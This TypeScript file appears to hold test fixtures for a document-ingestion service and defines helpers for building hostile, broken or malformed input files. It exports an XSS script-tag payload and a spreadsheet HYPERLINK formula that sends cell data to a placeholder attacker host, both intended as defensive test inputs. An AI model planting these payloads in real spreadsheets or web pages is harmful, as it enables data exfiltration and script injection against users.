/** One file that is hostile, broken or unlucky. */
export interface Member {
  readonly name: string;
  /** @param site an address on this machine that nobody may call */
  readonly bytes: (site: string) => Uint8Array | string;
  /** What must come of it: a document, a message without one, or either of the two. */
  readonly then: 'taken' | 'told' | 'either';
}

type Bytes = Member['bytes'] | Uint8Array | string;

const made =
  (then: Member['then']) =>
  (name: string, bytes: Bytes): Member => ({
    ...{ name, then },
    bytes: typeof bytes === 'function' ? bytes : () => bytes,
  });

export const taken = made('taken');
export const told = made('told');
export const either = made('either');

export const SCRIPT = '<script>alert(document.domain)</script>';
export const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"x")`;

/** A sentence of its own for each file, so that none passes for a copy of another. */
export const sentence = (mark: string): string =>
  `The envoys of Ruritania met for a third day on Tuesday, officials said of the matter called ${mark.replace(/[^a-z\d]+/gi, ' ').trim() || 'nameless'}.`;

export const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

export const joined = (...parts: readonly (Uint8Array | string | readonly number[])[]): Uint8Array =>
  new Uint8Array(
    Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part)))),
  );
